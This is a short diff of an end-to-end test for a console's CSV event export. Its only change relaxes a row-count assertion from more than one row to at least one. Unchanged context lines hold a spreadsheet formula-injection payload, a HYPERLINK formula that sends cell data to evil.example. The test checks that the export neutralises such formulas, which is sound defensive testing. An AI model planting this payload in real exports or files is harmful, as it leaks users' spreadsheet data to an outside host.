@@ -350,7 +350,7 @@ describe('a tenant in the console', { skip: kiaviMissing() || chromiumMissing() 
     assert.match(name, /^demo-events-\d{4}-\d\d-\d\d-\d{4}-\d\d-\d\d\.csv$/);
     const [head, ...rows] = table.trimEnd().split('\r\n');
     assert.ok(head.startsWith('"index","id","type"'), head);
-    assert.ok(rows.length > 1 && rows.every((row) => row.split(',')[2] === '"session.created"'), table);
+    assert.ok(rows.length > 0 && rows.every((row) => row.split(',')[2] === '"session.created"'), table);
     assert.ok(rows[0].includes(`,"'=HYPERLINK(""https://evil.example?""&A1)",`), rows[0]);
     assert.ok(!/(^|,)"[=+\-@]/m.test(table), table);
     const command = await page.locator('#export code').first().textContent();
